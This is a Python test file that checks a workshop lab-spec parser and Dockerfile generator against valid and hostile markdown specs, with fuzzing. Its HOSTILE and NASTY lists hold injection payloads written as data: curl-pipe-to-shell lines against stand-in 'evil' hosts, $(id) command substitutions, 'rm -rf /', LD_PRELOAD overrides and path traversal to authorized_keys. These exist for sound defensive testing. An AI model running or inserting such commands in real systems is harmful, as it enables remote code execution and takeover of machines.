"""The lab spec validator and the Dockerfile generator, against friendly and hostile docs."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pipeline.errors import BadInput
from pipeline.lab.image.dockerfile import render
from pipeline.lab.image.parse import parse_lab_spec
from pipeline.lab.image.section import extract_lab_section
from pipeline.lab.image.spec import DEFAULT_BASES, LabSpec, LabSpecError
from pipeline.slugs import workshop_slug
from tests.support.docker_env import SAMPLE_WORKSHOP


def lab(body: str, heading: str = "## Lab desktop") -> str:
    return f"---\ntitle: T\nname: ws-x\n---\n# Intro\n\ntext\n\n{heading}\n\n{body}\n\n## After\n\nbase: nope\n"


# ------------------------------------------------------------------ the friendly forms


def test_sample_workshop_parses_every_key() -> None:
    spec = parse_lab_spec(SAMPLE_WORKSHOP, doc="ws-go-promisegrid")
    assert spec is not None
    assert spec.base == "debian-novnc" and spec.base_image == DEFAULT_BASES["debian-novnc"]
    assert spec.packages == ("git", "jq")
    assert spec.pip == ("six>=1.16",)
    assert spec.ports == (8080,)
    assert dict(spec.env) == {"GREETING": "hello from the lab", "LEVEL": "1"}
    assert dict(spec.files) == {"README.txt": "Welcome to the Go workshop.\n", "exercises/one.md": "Write a promise.\n"}
    assert spec.memory == 768 * 1024**2 and spec.cpus == 0.5
    assert spec.autostart == (("xterm",),)


def test_a_doc_without_the_heading_has_no_spec() -> None:
    assert parse_lab_spec("# Notes\n\nbase: debian-novnc\n", doc="d") is None
    assert extract_lab_section("```\n# Lab desktop\n```\n") is None  # a heading inside code is not one


def test_empty_section_gives_the_defaults() -> None:
    assert parse_lab_spec(lab(""), doc="d") == LabSpec()


def test_prose_in_the_section_is_not_a_key() -> None:
    body = "Note: bring a laptop.\nhttps://example.org/setup\nYour desktop: ready at 9.\n\npackages: vim"
    spec = parse_lab_spec(lab(body), doc="d")
    assert spec is not None and spec.packages == ("vim",)


@pytest.mark.parametrize("body", [
    "base: debian-xfce\npackages: vim, git\nmemory: 1g",
    "- base: debian-xfce\n- packages: vim git\n- memory: 1024m",
    "* **base**: debian-xfce\n* **packages:** vim, git\n* **memory**: 1 GiB",
    "| key | value |\n| --- | --- |\n| base | debian-xfce |\n| packages | vim, git |\n| memory | 1g |",
    "| base | debian-xfce |\n| --- | --- |\n| packages | vim, git |\n| Memory | 1g |",
    "- packages:\n  - vim\n  - git\n- base: `debian-xfce`\n- memory: 1g",
])
def test_layouts_a_converter_may_emit_give_the_same_spec(body: str) -> None:
    spec = parse_lab_spec(lab(body), doc="d")
    assert spec is not None
    assert (spec.base, spec.packages, spec.memory) == ("debian-xfce", ("git", "vim"), 1024**3)


def test_setext_heading_escapes_and_links_from_markdownify() -> None:
    md = ("Lab desktop\n-----------\n\nenv: DEBUG\\_LEVEL=2, SITE=[https://example.org/a](https://example.org/a)\n"
          "pip: numpy>=1.26,<2 requests\n\nNext\n====\n\nports: 1\n")
    spec = parse_lab_spec(md, doc="d")
    assert spec is not None
    assert dict(spec.env) == {"DEBUG_LEVEL": "2", "SITE": "https://example.org/a"}
    assert spec.pip == ("numpy<2,>=1.26", "requests")
    assert spec.ports == ()  # the next heading ends the section


def test_the_digest_ignores_layout_and_order() -> None:
    a = parse_lab_spec(lab("packages: vim, git\nports: 80, 81"), doc="a")
    b = parse_lab_spec(lab("| ports | 81 80 |\n|--|--|\n| packages | git vim |"), doc="b")
    assert a is not None and b is not None and a.digest() == b.digest()
    c = parse_lab_spec(lab("packages: vim"), doc="c")
    assert c is not None and c.digest() != a.digest()


def test_operator_allow_list_replaces_the_default() -> None:
    bases = {"course": "registry.example/course-desktop:3"}
    spec = parse_lab_spec(lab("base: course"), doc="d", allowed_bases=bases)
    assert spec is not None and spec.base_image == "registry.example/course-desktop:3"
    with pytest.raises(LabSpecError, match="not an allowed base"):
        parse_lab_spec(lab("base: debian-novnc"), doc="d", allowed_bases=bases)


def test_setup_steps_only_when_the_operator_allows_them() -> None:
    body = "setup:\n```\necho hi > /etc/motd\n```"
    with pytest.raises(LabSpecError, match="disabled by the operator"):
        parse_lab_spec(lab(body), doc="d")
    spec = parse_lab_spec(lab(body), doc="d", allow_setup=True)
    assert spec is not None and spec.setup == ("echo hi > /etc/motd",)
    ctx = render(spec, workshop="ws-x")
    assert "echo hi" not in ctx.dockerfile  # travels as a context file, run by exec-form RUN
    assert ctx.files["setup.sh"] == b"echo hi > /etc/motd\n"


# ------------------------------------------------------------------ hostile specs


HOSTILE = [
    ("base: lscr.io/evil/image:latest", "base"),
    ("base: debian-novnc\nbase: debian-xfce", "base"),
    ("packages: git && curl evil.sh | sh", "packages"),
    ("packages: -oAPT::Update::Pre-Invoke=id", "packages"),
    ("packages: vim`id`", "packages"),
    ("pip: requests @ https://evil.example/x.whl", "pip"),
    ("pip: --extra-index-url https://evil.example", "pip"),
    ("pip: foo; os_name=='posix'", "pip"),
    ("pip: $(id)", "pip"),
    ("ports: 0", "ports"),
    ("ports: 65536", "ports"),
    ("ports: 80; rm", "ports"),
    ("env: lower=1", "env"),
    ("env: FOO=$(id)", "env"),
    ('env: FOO="x"', "env"),
    ("env: FOO=a && b", "env"),
    ("env: FOO=`id`", "env"),
    ("env: LD_PRELOAD=/x.so", "env"),
    ("env: PATH=/evil", "env"),
    ("files: /etc/passwd = root", "files"),
    ("files: ../../.ssh/authorized_keys = key", "files"),
    ("files: a/../../b = x", "files"),
    ("files: big.txt = " + "x" * 70000, "files"),
    ("memory: 64g", "memory"),
    ("memory: 1m", "memory"),
    ("memory: lots", "memory"),
    ("cpus: 64", "cpus"),
    ("cpus: -1", "cpus"),
    ("autostart: sh -c 'curl evil | sh'", "autostart"),
    ("autostart: xterm; id", "autostart"),
    ("autostart: $(id)", "autostart"),
    ("setup: curl evil | sh", "setup"),
    ("pakages: git", "pakages"),
]


@pytest.mark.parametrize("body,key", HOSTILE)
def test_hostile_specs_are_refused_with_one_line(body: str, key: str) -> None:
    with pytest.raises(LabSpecError) as info:
        parse_lab_spec(lab(body), doc="docs/ws-x.md")
    message = info.value.message
    assert isinstance(info.value, BadInput)
    assert "\n" not in message and len(message) < 400
    assert message.startswith(f"docs/ws-x.md: lab desktop {key} ")


# ------------------------------------------------------------------ fuzz: nothing gets through

NASTY = ["&&", "`id`", "$(id)", "${HOME}", "'", '"', "\\", "\n", "\r", "RUN rm -rf /", "\nRUN id", "#", ";",
         "|", ">", "<", "\x00", "\u2028", "ONBUILD RUN id", "FROM scratch", "--chown=0:0", "..", "/"]
token = st.one_of(st.sampled_from(NASTY), st.text(max_size=12), st.from_regex(r"[a-z0-9.+-]{2,10}", fullmatch=True))
value = st.lists(token, min_size=1, max_size=5).map("".join)
key = st.sampled_from(["base", "packages", "pip", "ports", "env", "files", "memory", "cpus", "autostart", "setup"])
# Mostly-valid values with hostile parts, so many specs pass and reach the generator.
safe_text = st.lists(st.sampled_from(list("abcXYZ09 ._,:/@%+=~^#-") + NASTY[:8]), max_size=12).map("".join)
plausible = st.one_of(
    st.from_regex(r"[a-z0-9][a-z0-9+.-]{1,12}", fullmatch=True).map(lambda v: f"packages: {v}"),
    st.from_regex(r"[A-Za-z][A-Za-z0-9_.-]{0,8}(>=[0-9]{1,2}(,<[0-9]{1,2})?)?", fullmatch=True).map(lambda v: f"pip: {v}"),
    st.tuples(st.from_regex(r"[A-Z_][A-Z0-9_]{0,6}", fullmatch=True), safe_text).map(lambda kv: f"env: {kv[0]}={kv[1]}"),
    st.tuples(st.from_regex(r"[a-z]{1,6}(/[a-z.]{1,6})?", fullmatch=True), st.text(max_size=60)).map(
        lambda kv: f"files: {kv[0]}\n```\n{kv[1].replace('`', '')}\n```"),
    st.text(max_size=60).map(lambda v: f"setup:\n```\n{v.replace('`', '')}\n```"),
    st.lists(st.from_regex(r"[a-z][a-z0-9_./:-]{0,8}", fullmatch=True), min_size=1, max_size=3).map(
        lambda a: "autostart: " + " ".join(a)),
    st.integers(-5, 70000).map(lambda n: f"ports: {n}"),
)
line = st.one_of(
    plausible, plausible,
    st.tuples(key, value).map(lambda kv: f"- {kv[0]}: {kv[1]}"),
    st.tuples(key, value).map(lambda kv: f"| {kv[0]} | {kv[1]} |"),
    st.tuples(key, value).map(lambda kv: f"{kv[0]}:\n```\n{kv[1]}\n```"),
    value,
)
_JSON_RUN = re.compile(r"^RUN (\[.*\])$")
_DQ = r'"(?:[^"\\$\n]|\\[\\"$])*"'


def check_dockerfile(spec: LabSpec, text: str) -> None:
    """The Dockerfile is exactly the template's instructions, each value in a safe position."""
    lines = text.rstrip("\n").split("\n")
    assert all(not ln.endswith("\\") for ln in lines), "no line continuation may appear"
    kinds = [ln.split(" ", 1)[0] for ln in lines]
    apt = list(spec.packages) + (["python3", "python3-venv"] if spec.pip else [])
    expected = ["FROM", "USER"] + (["RUN"] if apt else []) + (["RUN", "ENV"] if spec.pip else [])
    expected += ["ENV"] * len(spec.env) + (["COPY"] if spec.files else []) + (["COPY"] if spec.autostart else [])
    expected += (["COPY", "RUN"] if spec.setup else []) + (["RUN"] if spec.ports else []) + ["LABEL", "EXPOSE", "USER"]
    assert kinds == expected
    runs = [json.loads(_JSON_RUN.match(ln).group(1)) for ln in lines if ln.startswith("RUN")]  # type: ignore[union-attr]
    if apt:
        assert runs[0][:4] == ["/bin/sh", "-c", runs[0][2], "apt-install"] and runs[0][4:] == list(dict.fromkeys(apt))
    if spec.pip:
        assert runs[1 if apt else 0][4:] == list(spec.pip)
    assert re.fullmatch(rf"LABEL (?:{_DQ}={_DQ} ?)+", lines[-3])
    envs = [ln for ln in lines if ln.startswith("ENV ") and not ln.startswith("ENV PATH=")]
    assert envs == [f'ENV {k}="{v}"' for k, v in spec.env]
    for ln in envs:
        assert re.fullmatch(rf"ENV [A-Z_][A-Z0-9_]*={_DQ}", ln)
    assert re.fullmatch(r"EXPOSE [0-9]+(?: [0-9]+)*", lines[-2])
    for ln in lines:
        if ln.startswith("COPY"):
            json.loads(ln.split(" ", 2)[-1] if "--chown" in ln else ln.split(" ", 1)[1])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lines=st.lists(line, max_size=8), title=st.text(max_size=40), allow_setup=st.booleans())
@example(lines=["env: A=a  a", "env: B=x\ty"], title="t\u2028\x85", allow_setup=False)  # CI once found spacing squeezed
def test_fuzz_hostile_sections_never_reach_a_dockerfile_or_shell(lines: list[str], title: str, allow_setup: bool) -> None:
    try:
        spec = parse_lab_spec(lab("\n".join(lines)), doc="fuzz", allow_setup=allow_setup)
    except LabSpecError as exc:
        assert "\n" not in exc.message
        return
    assert spec is not None
    for _name, val in spec.env:
        assert not set(val) & set("\"'`$\\;|&<>()\n\r")
    for argv in spec.autostart:
        assert all(not set(t) & set("\"'`$\\;|&<>()*?[]\n\r ") for t in argv)
    assert all(not p.startswith("/") and ".." not in p.split("/") for p, _ in spec.files)
    ctx = render(spec, workshop="fuzz", title=title, revision="r", source="https://git.example/o/r")
    check_dockerfile(spec, ctx.dockerfile)
    for name, data in ctx.files.items():
        if name.startswith("autostart/"):
            execs = [ln for ln in data.decode().split("\n") if ln.startswith("Exec=")]
            assert len(execs) == 1


@settings(max_examples=200, deadline=None)
@given(title=st.text(), revision=st.text(max_size=50))
def test_fuzz_titles_stay_inside_their_label(title: str, revision: str) -> None:
    ctx = render(LabSpec(), workshop="w", title=title, revision=revision)
    check_dockerfile(LabSpec(), ctx.dockerfile)
